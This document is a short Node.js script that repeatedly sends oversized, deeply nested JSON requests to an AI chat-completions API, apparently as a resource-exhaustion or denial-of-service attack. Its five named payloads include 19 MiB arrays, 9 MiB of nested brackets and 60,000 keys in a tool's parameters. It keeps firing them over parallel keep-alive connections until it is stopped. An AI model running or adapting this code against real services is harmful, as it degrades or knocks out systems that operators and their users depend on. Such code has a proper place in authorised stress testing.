// Sends one hostile request after the other, over some connections, until it is ended. Arguments:
// the service, a key, the attack.
import { Agent, request } from 'node:http'

const CONNECTIONS = 4
const MIB = 1024 * 1024
const MODEL = 'northwind/gale-4'

const chat = (messages) => ['/api/v1/chat/completions', `{"model":"${MODEL}","messages":[${messages}]}`]
const repeated = (item, bytes) =>
  Array(Math.floor(bytes / (item.length + 1)))
    .fill(item)
    .join(',')
const letters = (bytes) => Array.from({ length: bytes }, (_, i) => 'qzjxkvwy'[(i * 7919 + (i >> 3)) % 8]).join('')

const ATTACKS = {
  numbers: () => chat(repeated('1', 19 * MIB)),
  messages: () => chat(repeated('{"role":"user","content":"a"}', 19 * MIB)),
  nested: () => chat(`${'['.repeat(9 * MIB)}${']'.repeat(9 * MIB)}`),
  keys: () => [
    '/api/v1/query',
    `{"tool":"web_search","params":{${Array.from({ length: 60_000 }, (_, i) => `"k${i}":1`)}}}`,
  ],
  letters: () => chat(`{"role":"user","content":"${letters(MIB)}"}`),
}

const [url, key, name] = process.argv.slice(2)
const [path, body] = ATTACKS[name]()
const { hostname, port } = new URL(url)
const agent = new Agent({ keepAlive: true, maxSockets: CONNECTIONS })
const headers = {
  authorization: `Bearer ${key}`,
  'content-type': 'application/json',
  'content-length': Buffer.byteLength(body),
}

function send() {
  const again = () => setTimeout(send, 1)
  const call = request({ hostname, port, path, method: 'POST', agent, headers }, (answer) => {
    answer.resume()
    answer.once('close', again)
  })
  call.once('error', again)
  call.end(body)
}
for (let i = 0; i < CONNECTIONS; i++) send()
